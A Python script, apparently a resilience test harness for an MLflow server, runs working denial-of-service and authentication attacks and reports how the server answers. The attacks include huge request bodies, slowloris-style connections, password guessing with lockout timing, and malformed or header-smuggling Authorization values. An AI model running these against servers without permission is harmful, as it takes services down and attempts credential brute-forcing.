"""Attacks of a client that has no login, and reaches the ports of a server and of its metrics.

Usage: attack.py NAME SECONDS TARGETS. TARGETS is JSON: "server" and "metrics" (HOST:PORT), "user" (one who exists), and
"file" (the path of a large file of the web page).
Each connection of an attack does its work once, and again until the time is over. Ends with one line of JSON: when it
began and ended (Unix time), how often the server answered what, and the median milliseconds of the answers to some of
the requests.
"""

import base64
import collections
import contextlib
import itertools
import json
import socket
import statistics
import sys
import threading
import time

API = "/api/2.0/mlflow"
SEARCH = f"{API}/experiments/search?max_results=1"
BLOCK = b"x" * 65_536
DELEGATED = "X-MLflow-Assistant-Delegation: x"
TIMEOUT = 10
# In a row, and then one a second, is what the server checks of wrong passwords.
TRY_SECONDS = 1.2


def basic(pair):
    return "Authorization: Basic " + base64.b64encode(pair if isinstance(pair, bytes) else pair.encode()).decode()


def header(line, *fields):
    return "\r\n".join([f"{line} HTTP/1.1", "Host: localhost", *fields, "", ""]).encode("latin-1")


class Attack:
    def __init__(self, targets, seconds):
        self.targets = targets
        self.end = time.monotonic() + seconds
        self.answers, self.times, self.lock = collections.Counter(), collections.defaultdict(list), threading.Lock()
        self.numbers = itertools.count()

    def connect(self, target="server"):
        host, port = self.targets[target].rsplit(":", 1)
        return contextlib.closing(socket.create_connection((host, int(port)), TIMEOUT))

    def ask(self, request, body=()):
        """Send a request on a connection of its own: the status of the answer, or what came in its place."""
        with self.connect() as connection:
            try:
                connection.sendall(request)
                for part in body:
                    connection.sendall(part)
            except OSError:
                pass  # the server has heard enough
            try:
                start = connection.recv(65_536)
            except ConnectionError:
                start = b""
            except TimeoutError:
                return "no answer"
        return start.split(b" ", 2)[1].decode("latin-1") if start.startswith(b"HTTP/") else "closed"

    def hold(self, opening, drip=b"", target="server"):
        """Keep a connection open until the time is over, or the server closes it."""
        with self.connect(target) as connection:
            connection.sendall(opening)
            connection.settimeout(0.2)
            while True:
                try:
                    return "answered" if connection.recv(65_536) else "closed"
                except TimeoutError:
                    if time.monotonic() > self.end:
                        return "held"
                if drip:
                    connection.sendall(drip)

    def note(self, answer):
        with self.lock:
            self.answers[answer] += 1

    def run(self, *workers):
        """Each worker, a function of no arguments that gives an answer, on a thread of its own until the end."""

        def work(worker):
            while True:
                try:
                    answer = worker()
                except OSError as error:
                    answer = "closed" if isinstance(error, ConnectionError) else type(error).__name__
                self.note(answer)
                if time.monotonic() > self.end:
                    return

        threads = [threading.Thread(target=work, args=(worker,)) for worker in workers]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    # What follows are the attacks, by name.

    def bodies(self):
        """Bodies of 400 MiB, with a length and in chunks, also where the server leaves the login to MLflow."""
        size = 400 << 20
        chunk = b"%x\r\n%s\r\n" % (len(BLOCK), BLOCK)
        ways = [(f"Content-Length: {size}", BLOCK), ("Transfer-Encoding: chunked", chunk)]
        places = [
            (f"{API}/runs/search", ()),
            (f"{API}/runs/search", (DELEGATED,)),
            ("/gateway/x/mlflow/invocations", ()),
        ]

        def worker(path, fields, length, block):
            request = header(f"POST {path}", "Content-Type: application/json", length, *fields)
            return lambda: self.ask(request, itertools.repeat(block, size // len(BLOCK)))

        self.run(*[worker(path, fields, *way) for path, fields in places for way in ways])

    def methods(self):
        """Invented methods, with and without a path of the API, and invented paths."""

        def worker(kind):
            def work():
                number = next(self.numbers)
                line = [f"AAAA{number:06} {SEARCH}", f"AAAA{number:06} /{number}", f"GET {API}/{number}"][kind]
                return self.ask(header(line))

            return work

        self.run(*[worker(index % 3) for index in range(15)])

    def guesses(self):
        """Wrong passwords for users who exist and who do not."""

        def worker(user):
            return lambda: self.ask(header(f"GET {SEARCH}", basic(f"{user}:guess {next(self.numbers)}")))

        self.run(*[worker(self.targets["user"] if index % 2 else f"nobody{index}") for index in range(32)])

    def tries(self):
        """Wrong passwords one by one, slow enough to be checked: how long is each refused?"""
        users = {"exists": self.targets["user"], "does not exist": "nobody"}
        for number in range(6):
            kind = list(users)[number % 2]
            began = time.monotonic()
            self.note(self.ask(header(f"GET {SEARCH}", basic(f"{users[kind]}:try {began}"))))
            self.times[kind].append(1000 * (time.monotonic() - began))
            time.sleep(TRY_SECONDS)

    def headers(self):
        """Half-sent headers and connections that send nothing."""
        half = header(f"GET {SEARCH}")[:-4]
        self.run(*[lambda: self.hold(half)] * 60, *[lambda: self.hold(b"")] * 200)

    def slow_bodies(self):
        """Bodies that come byte by byte: many, and others that first take all that the server holds of such bodies."""
        length = 32 << 20

        def worker(path, sent, *fields):
            request = header(f"POST {path}", "Content-Type: application/json", f"Content-Length: {length}", *fields)
            return lambda: self.hold(request + bytes(sent), b"\r\n\r\n")

        search, gateway = f"{API}/runs/search", "/gateway/x/mlflow/invocations"
        plain = [worker(path, 10) for path in (search, gateway, "/health") for _ in range(20)]
        large = [worker(gateway, length - 400)] * 6
        self.run(*plain, *large, *[worker(search, 100, DELEGATED)] * 20)

    def readers(self):
        """Large files of the web page, of which nothing is read."""
        self.run(*[self.request_and_wait] * 200)

    def request_and_wait(self):
        with self.connect() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.sendall(header(f"GET {self.targets['file']}"))
            time.sleep(max(1, self.end - time.monotonic()))
            return "held" if connection.recv(1) else "closed"

    def logins(self):
        """Logins that are none."""
        fields = [
            *["Authorization:", "Authorization: Bearer x", "Authorization: Basic", "Authorization: Basic !!!"],
            *["Authorization: Basic a", 'Authorization: Digest username="admin"', "Authorization: \xff\xfe"],
            *[basic("no colon"), basic(b"\xff:\xfe"), basic("a\0b:c"), basic(":"), basic(f"{self.targets['user']}:")],
            *[basic("a" * 6000 + ":b"), basic("\u0130\u4e2d:\U0001f600"), basic("a:b") + "\r\n" + basic("c:d")],
            "\r\n".join(f"X-{number}: {number}" for number in range(5000)),
            "Authorization: Basic " + "x" * 100_000,
        ]
        lines = [f"GET {SEARCH}", f"POST {API}/runs/search", "GET /", "GET /graphql", "POST /v1/traces"]
        lines += [
            "GET /api/2.0/mlflow-artifacts/artifacts",
            "POST /gateway/x/mlflow/invocations",
            "GET /ajax-api/3.0/jobs",
        ]
        requests = [header(line, field) for line in lines for field in fields]

        def worker(mine):
            def work():
                for request in mine[1:]:
                    self.note(self.ask(request))
                return self.ask(mine[0])

            return work

        self.run(*[worker(requests[first::8]) for first in range(8)])

    def scrapers(self):
        """Idle connections to the container that shows the metrics."""
        self.run(*[lambda: self.hold(b"", target="metrics")] * 300)


def main(name, seconds, targets):
    attack = Attack(json.loads(targets), float(seconds))
    began = time.time()
    getattr(attack, name)()
    medians = {kind: round(statistics.median(times)) for kind, times in attack.times.items()}
    print(json.dumps({"began": began, "ended": time.time(), "answers": attack.answers, "medians": medians}))


if __name__ == "__main__":
    main(*sys.argv[1:])
